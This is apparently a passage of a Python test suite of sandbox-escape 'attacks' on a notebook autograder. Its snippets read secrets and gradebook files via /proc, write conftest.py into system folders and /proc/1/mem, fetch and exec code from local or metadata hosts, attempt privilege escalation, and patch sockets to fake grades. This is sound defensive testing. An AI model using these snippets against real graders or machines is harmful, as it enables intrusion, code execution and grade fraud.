        hidden = "{SECRET[:15]}" + "{SECRET[15:]}"
        if any(hidden in value for value in os.environ.values()):
            print("BRE" "ACH: a secret in the environment")
        for process in glob.glob("/proc/[0-9]*"):
            for name in ("environ", "cmdline", "maps"):
                try:
                    text = open(f"{{process}}/{{name}}", errors="replace").read()
                except OSError:
                    continue
                if hidden in text or "autograder grade" in text or "judge.server" in text:
                    print("BRE" "ACH:", process, name)
            for name in ("cwd", "root"):
                for below in ("solutions", "submitted", "gradebook.db", "root/.ssh"):
                    if os.path.exists(f"{{process}}/{{name}}/{{below}}"):
                        print("BRE" "ACH:", process, name, below)
            for opened in glob.glob(process + "/fd/*"):
                try:
                    if os.readlink(opened).endswith((".db", ".ipynb", ".log")):
                        print("BRE" "ACH:", opened)
                except OSError:
                    pass
        """,
    ),
    first(
        "writes-files",
        "Writes wherever the course, the grader or its Python may be.",
        """
        import os
        import sys

        folders = ["/", "/etc", "/usr/lib", "/handed-in", sys.prefix, os.environ["PYTHONPATH"], "/proc/1/cwd"]
        folders += [os.path.join(os.environ["PYTHONPATH"], "autograder", name) for name in ("", "judge", "checks")]
        for folder in folders:
            try:
                with open(os.path.join(folder, "conftest.py"), "w") as file:
                    file.write("raise SystemExit")
                print("BRE" "ACH:", folder)
            except OSError:
                pass
        for path in ("/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/1/mem", "/proc/1/oom_score_adj"):
            try:
                with open(path, "r+b") as file:
                    file.write(b"0")
            except OSError:
                pass
        """,
    ),
    first(
        "network",
        "Asks servers outside and on the grader's own machine for the solution, over TCP, UDP and Unix sockets.",
        f"""
        import os
        import socket

        def ask(family, address):
            with socket.socket(family) as sock:
                sock.settimeout(0.3)
                try:
                    sock.connect(address)
                    print("BRE" "ACH: connected to", address)
                    exec(sock.makefile().read(), globals())
                except OSError:
                    pass

        for host in ("127.0.0.1", "192.0.2.1", "10.0.0.1", "172.17.0.1", "169.254.169.254", "8.8.8.8"):
            ask(socket.AF_INET, (host, {HOST_PORT}))
        ask(socket.AF_INET6, ("::1", {HOST_PORT}))
        ask(socket.AF_UNIX, "{HOST_SOCKET}")
        ask(socket.AF_UNIX, "\\0{HOST_SOCKET}")
        for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
            ask(socket.AF_UNIX, path)
        if socket.if_nameindex() != [(1, "lo")]:
            print("BRE" "ACH: more than loopback:", socket.if_nameindex())
        """,
    ),
    first(
        "privileges",
        "Tries what only an administrator may: mounts, namespaces, raw sockets, tracing, another user.",
        """
        import ctypes
        import os
        import socket

        libc = ctypes.CDLL(None, use_errno=True)
        for name, act in {
            "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
            "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
            "setuid": lambda: os.setuid(0) if os.getuid() else None,
            "setgid": lambda: os.setgid(0) if os.getgid() else None,
            "chroot": lambda: os.chroot("/"),
            "mknod": lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)),
            "nice": lambda: os.nice(-10),
        }.items():
            try:
                act()
            except OSError:
                continue
            print("BRE" "ACH:", name)
        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
            print("BRE" "ACH: mount")
        if libc.ptrace(16, 1, None, None) == 0 and os.getpid() != 1:
            print("BRE" "ACH: ptrace")
        """,
    ),
]

_SOCKETS = [
    Attack(
        "patched-sockets",
        "Replaces the socket module in its kernel by one whose every peer says what is wanted.",
        {
            "fetch": textwrap.dedent(
                """
                import socket
                import sys

                class Agreeable:
                    def __init__(self, *arguments, **named):
                        pass

                    def __getattr__(self, name):
                        return lambda *arguments, **named: b"4.0"

                socket.socket = socket.SocketType = Agreeable
                socket.create_connection = Agreeable
                sys.modules["_socket"] = sys.modules["socket"]
                """
            )
            + nothing("fetch"),
        },
        # The others make their sockets in learner processes, whose socket module is the real one.
    ),
    Attack(
        "network-in-sockets",
        "Asks a server on the grader's own machine for the solution, where sockets are what the exercise is about.",
        {
            "fetch": textwrap.dedent(
                f"""
                import socket

                try:
                    with socket.create_connection(("127.0.0.1", {HOST_PORT}), timeout=0.3) as sock:
                        print("BRE" "ACH: connected")
                        exec(sock.makefile().read(), globals())
                except OSError:
                    pass

                def fetch(host, port, request):
                    for address in [("127.0.0.1", {HOST_PORT}), ("::1", {HOST_PORT}), ("192.0.2.1", 80)]:
                        try:
                            with socket.create_connection(address, timeout=0.2) as sock:
                                print("BRE" "ACH: connected")
                                return sock.recv(65536)
                        except OSError:
                            pass
                    raise NotImplementedError("not written yet")
                """
            )
        },
    ),
]

# What is no notebook.

_RELEASE_3 = json.dumps(
    {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {"name": ""},
        "worksheets": [{"cells": [{"cell_type": "code", "input": "8.0", "language": "python", "outputs": 8.0}]}],
    }
).encode()

_MALFORMED = [
    Attack(f"malformed-{name}", about, {}, files={f"{OSI}.ipynb": content}, attacked=frozenset(OF_OSI), failed=True)
    for name, about, content in [
        ("json", "Hands in half of a JSON file.", b'{"cells": [{"cell_type": "code", "source": "8.0"'),
        ("bytes", "Hands in bytes that are no text.", b"\xff\xfe\x00\xd8" * 1000),
        ("empty", "Hands in an empty file.", b""),
        ("list", "Hands in JSON that is no notebook.", b"[8.0]"),
        ("nested", "Hands in JSON that is nested a hundred thousand deep.", b"[" * 100_000),
        ("version", "Hands in a notebook of a format that is not there.", b'{"nbformat": 99, "cells": []}'),
        ("old", "Hands in a notebook of format 3 that is broken.", _RELEASE_3),
    ]
]


def _twenty_megabytes(notebook: NotebookNode) -> None:
    notebook.cells += [nbformat.v4.new_code_cell("#" * 20_000_000)]


def _many_cells(notebook: NotebookNode) -> None:
    notebook.cells += [nbformat.v4.new_markdown_cell(f"line {number}") for number in range(2_000)]
    notebook.cells += [nbformat.v4.new_code_cell("8.0") for _ in range(50)]


_ODD = [
    Attack(
        "large-notebook",
        "Hands in a cell of twenty megabytes.",
        {},
        edit=_twenty_megabytes,
        attacked=frozenset(OF_OSI),
        failed=True,  # nbgrader's own limit for a file that is collected
    ),
    edited("many-cells", "Hands in two thousand cells more, some of which show points.", _many_cells),
    edited("[a-z]* ? {brace}", "Has a name that is a pattern, for other learners' names.", _another_source("100.0")),
    edited("honest-[ab]", "Has a name that is a pattern for two honest learners' names.", _another_source("100.0")),
]

ATTACKS: list[Attack] = [
    *_PATCHES,
    *_REPLIES,
    *_FILES,
    *_OBJECTS,
    *_BOMBS,
    *_LOOKS,
    *_SOCKETS,
    *_MALFORMED,
    *_ODD,
]
